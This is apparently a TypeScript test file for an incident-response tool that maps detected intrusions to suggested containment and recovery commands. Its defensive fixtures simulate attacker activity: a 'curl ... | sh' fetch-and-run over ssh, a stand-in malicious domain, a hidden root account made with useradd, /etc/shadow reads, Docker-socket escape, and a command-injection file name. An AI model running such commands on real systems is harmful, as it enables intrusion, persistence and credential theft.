/** Holds that actions fit what happened, name their evidence, and nothing else is advised. */
import assert from "node:assert/strict";
import { test } from "node:test";
import {
  hostileFacts,
  sampleCase,
  sampleIncident,
  sampleProcess,
  sampleSignal,
  sampleStep,
  webShellFacts,
} from "../../../testing/sample-incident.ts";
import { type ActionScene, perKindMax } from "./action-scene.ts";
import { blockActions } from "./block-actions.ts";
import { closeActions } from "./close-actions.ts";
import { containActions } from "./contain-actions.ts";
import { eradicateActions } from "./eradicate-actions.ts";
import type { Incident } from "./incident.ts";
import type { IncidentInput } from "./incident-input.ts";
import { listActions } from "./list-actions.ts";
import { preserveActions } from "./preserve-actions.ts";
import { readDeeds } from "./read-deeds.ts";
import { recoverActions } from "./recover-actions.ts";

const host = { container: "host:node-1", workload: undefined } as const;
const place = { process: "sh", entry: "sh", second: 10 };

function texts({ actions }: Incident): string {
  return actions.map(({ phase, text, command }) => `${phase}: ${text} $ ${command}`).join("\n");
}

/** A cron-like job on the node. */
function onHost(given: Partial<IncidentInput>): Incident {
  return sampleIncident({
    signals: [sampleSignal(place, { ...host, entryKind: "scheduled", family: "persistence" })],
    processes: [sampleProcess(place, { ...host, exitUs: 0 })],
    steps: [],
    ...given,
  });
}

test("each action names its evidence", () => {
  for (const { text, because, citations } of sampleIncident().actions) {
    assert.notEqual(because, "", text);
    assert.ok(citations.length > 0, text);
  }
});

test("a pod that talked outside is isolated, the address blocked, the token renewed", () => {
  const text = texts(sampleIncident());
  assert.match(text, /contain: Isolate pod “shop\/web-0”.*\$ kubectl -n shop label pod web-0/);
  assert.match(text, /contain: Block 203\.0\.113\.9 .*iptables -I FORWARD -d 203\.0\.113\.9/);
  assert.match(text, /preserve: Save the logs .*--since-time=2023-11-14T22:04:10Z/);
  assert.match(text, /recover: Recreate the pod's service account/);
  assert.match(text, /recover: Find the request that made “php-fpm” run commands/);
});

test("what did not happen brings no action", () => {
  const text = texts(sampleIncident());
  for (const word of [
    "cron",
    "account “",
    "Freeze",
    "node “",
    "metadata service",
    "Restore",
    "SSH",
  ]) {
    assert.equal(text.includes(word), false, word);
  }
});

test("on a host: freeze, copy, remove the cron job, delete what was dropped", () => {
  const steps = ["/etc/cron.d/x", "/tmp/.x/run"].map((subject, at) =>
    sampleStep({ ...place, second: 11 + at }, { ...host, what: "write", subject }),
  );
  const run = sampleProcess(
    { process: "run", entry: "sh", second: 20 },
    { ...host, binary: "/tmp/.x/run", parent: "sh" },
  );
  const [root] = [sampleProcess(place, { ...host, exitUs: 0 })];
  const text = texts(onHost({ steps, processes: [root, run] }));
  assert.match(text, /contain: Freeze “sh” \(pid 110 on “node-1”\) \$ kill -STOP 110/);
  assert.match(text, /preserve: Copy “\/tmp\/\.x\/run” .*\$ cp -p \/tmp\/\.x\/run/);
  assert.match(text, /eradicate: Remove the cron job “\/etc\/cron\.d\/x”/);
  assert.match(text, /eradicate: Delete “\/tmp\/\.x\/run” once copied \$ rm -i -- \/tmp\/\./);
  assert.doesNotMatch(text, /kubectl/);
});

test("on a host, whoever started it is to be stopped", () => {
  assert.match(texts(onHost({})), /contain: Stop the job that runs “sh”/);
  const login = sampleSignal(place, { ...host, entryKind: "login" });
  assert.match(texts(onHost({ signals: [login] })), /contain: Lock the account behind the login/);
  assert.doesNotMatch(texts(sampleIncident()), /Stop the job|Lock the account behind/);
});

test("a server that was reached is looked at where a rule speaks of lateral movement", () => {
  const steps = [sampleStep(place, { ...host, subject: "10.0.0.7:6379" })];
  const signals = [sampleSignal(place, { ...host, family: "lateral-movement" })];
  assert.match(texts(onHost({ signals, steps })), /contain: Look at what was done on 10\.0\.0\.7 /);
  assert.doesNotMatch(texts(onHost({ steps })), /Look at what/);
});

test("a fileless program is copied while it runs", () => {
  const signal = sampleSignal(place, { ...host, family: "fileless", entryKind: "unknown" });
  const text = texts(onHost({ signals: [signal] }));
  assert.match(text, /preserve: Copy the program of pid 110 .*\$ cp \/proc\/110\/exe/);
});

test("an account that was made is locked, password hashes that were read are changed", () => {
  const process = sampleProcess(place, {
    ...host,
    binary: "/usr/sbin/useradd",
    arguments: "-o -u 0 sysupd",
    uid: 0,
  });
  const steps = [sampleStep(place, { ...host, what: "read", subject: "/etc/shadow" })];
  const text = texts(onHost({ processes: [process], steps: [] }));
  assert.match(text, /contain: Lock the account “sysupd” \$ usermod -L -e 1 sysupd/);
  // Nothing changed by it, or nobody could come in any more.
  for (const vain of [{ uid: 33 }, { arguments: "-s /bin/sh root" }]) {
    const led = texts(onHost({ processes: [{ ...process, ...vain }], steps: [] }));
    assert.match(led, /Look at the account/);
    assert.doesNotMatch(led, /usermod -L/);
  }
  const cat = { ...process, binary: "/bin/cat", arguments: "" };
  assert.match(texts(onHost({ processes: [cat], steps })), /Change the passwords of all local/);
  const sudo = { ...process, binary: "/usr/bin/sudo", arguments: "" };
  assert.doesNotMatch(texts(onHost({ processes: [sudo], steps })), /Change the passwords/);
});

test("an escape gives up the node, an impact asks for a restore, metadata for the role", () => {
  const signals = (["escape", "impact"] as const).map((family) => sampleSignal(place, { family }));
  const steps = [sampleStep(place, { subject: "169.254.169.254:80" })];
  const text = texts(sampleIncident({ signals, steps }));
  assert.match(text, /recover: Take node “node-1” for lost.*\$ kubectl drain node-1/);
  assert.match(text, /recover: Restore data/);
  assert.match(text, /contain: Keep the workload from the cloud's metadata service/);
  assert.match(text, /recover: Make the credentials of the node's or pod's cloud role void/);
  assert.match(text, /eradicate: Look for containers/);
});

test("a session from outside asks whose credentials it was", () => {
  const signals = [sampleSignal(place, { entryKind: "operator", host: "" })];
  const text = texts(sampleIncident({ signals }));
  assert.match(text, /contain: Find out whose credentials entered “shop\/web-0”/);
  assert.match(text, /preserve: Save the audit log of the cluster's API around 2023-11-14T22/);
});

test("the service's own process is never to be stopped", () => {
  const signals = [sampleSignal(place, { entryKind: "startup", host: "" })];
  const processes = [sampleProcess(place, { exitUs: 0 })];
  const text = texts(sampleIncident({ signals, processes, steps: [] }));
  assert.doesNotMatch(text, /Freeze|kill/);
  assert.match(text, /recover: Look into “registry\.example\/web:1”/);
});

test("what was named or looked up is blocked, and the settings that were read are renewed", () => {
  const of = (name: string, line: string) =>
    sampleProcess(
      { process: `${name}-1`, entry: "sh", second: 11 },
      { ...host, binary: `/bin/${name}`, arguments: line },
    );
  const processes = [
    sampleProcess(place, host),
    of("ssh", "root@10.0.0.9 'curl http://203.0.113.50/x | sh'"),
    of("dig", "a.evil.example"),
    of("cat", "/srv/settings.yaml"),
  ];
  const about = (process: string) => sampleSignal({ ...place, process }, host);
  const signals = [about("sh"), about("ssh-1"), about("dig-1")];
  const text = texts(onHost({ processes, signals }));
  assert.match(text, /contain: Block 203\.0\.113\.50 everywhere/);
  assert.match(text, /contain: Have resolvers refuse “a\.evil\.example”/);
  assert.match(text, /recover: Renew passwords and keys that stand in “\/srv\/settings\.yaml”/);
});

test("whoever left a container, or spoke to its runtime, is met on the node", () => {
  const entered = { entryKind: "operator", host: "" } as const;
  const process = sampleProcess(place, {
    binary: "/usr/bin/curl",
    arguments: "--unix-socket /run/docker.sock http://x/containers/json",
  });
  const signals = [sampleSignal(place, { ...entered, family: "escape", level: "high" })];
  const text = texts(sampleIncident({ signals, processes: [process], steps: [] }));
  assert.match(text, /contain: Let nothing new start on node “node-1”.*kubectl cordon node-1/);
  assert.match(text, /preserve: Save the audit log .*AUDIT-LOG \| grep -F '"name":"web-0"' > \./);
  assert.match(text, /eradicate: Look on “node-1” for containers .*docker ps -a --no-trunc/);
  assert.match(text, /recover: Let only those enter pods of “shop” who must/);
});

test("a program that was run and deleted, and a password that a command shows, are told", () => {
  const steps = (["write", "delete"] as const).map((what, at) =>
    sampleStep({ ...place, second: 11 + at }, { ...host, what, subject: "/tmp/.x/run" }),
  );
  const run = sampleProcess(
    { process: "run", entry: "sh", second: 12 },
    { ...host, binary: "/tmp/.x/run", uid: 0, parent: "sh" },
  );
  const lock = sampleProcess(
    { process: "lock", entry: "sh", second: 13 },
    { ...host, binary: "/usr/bin/openssl", arguments: "enc -pass pass:abc -in a -out b" },
  );
  const signals = [
    sampleSignal({ ...place, process: "run" }, { ...host, family: "fileless", level: "high" }),
    sampleSignal({ ...place, process: "lock" }, { ...host, family: "impact", level: "high" }),
  ];
  const text = texts(onHost({ steps, signals, processes: [run, lock] }));
  assert.match(text, /preserve: Look in backups .* for a copy of “\/tmp\/\.x\/run”/);
  assert.match(text, /preserve: Keep the password that the commands show/);
  assert.match(text, /recover: Set “node-1” up anew/);
  assert.doesNotMatch(text, /Copy “\/tmp/);
});

test("no command is made of text that does not look as it is", () => {
  const { actions } = sampleIncident(hostileFacts());
  for (const { command } of actions) assert.match(command, /^[ -~]*$/);
  const steps = [sampleStep(place, { ...host, what: "write", subject: "/tmp/$(reboot)'; x" })];
  const text = texts(onHost({ steps }));
  assert.match(text, /cp -p '\/tmp\/\$\(reboot\)'\\''; x'/);
});

test("of one kind a person reads no more than a few", () => {
  const steps = Array.from({ length: 100 }, (_, at) =>
    sampleStep(place, { what: "write", subject: `/tmp/f${at}` }),
  );
  const { actions } = sampleIncident({ ...webShellFacts(), steps: [...steps] });
  assert.ok(actions.filter(({ text }) => text.startsWith("Copy")).length <= perKindMax);
  assert.ok(actions.length <= 40);
});

test("phases come in the order of a response", () => {
  const phases = [...new Set(sampleIncident().actions.map(({ phase }) => phase))];
  assert.deepEqual(phases, ["contain", "preserve", "eradicate", "recover"]);
});

test("the list holds what each phase gives, in that order", () => {
  const given = sampleCase();
  const scene: ActionScene = { id: "i1", given, deeds: readDeeds(given), causes: [] };
  const each = [containActions, preserveActions, eradicateActions, recoverActions];
  assert.deepEqual(
    listActions(scene),
    each.flatMap((list) => list(scene)),
  );
  const quiet = { ...scene, deeds: [], given: { ...given, signals: [], containers: [] } };
  for (const list of [containActions, blockActions, closeActions]) {
    assert.deepEqual(list(quiet), []);
  }
});
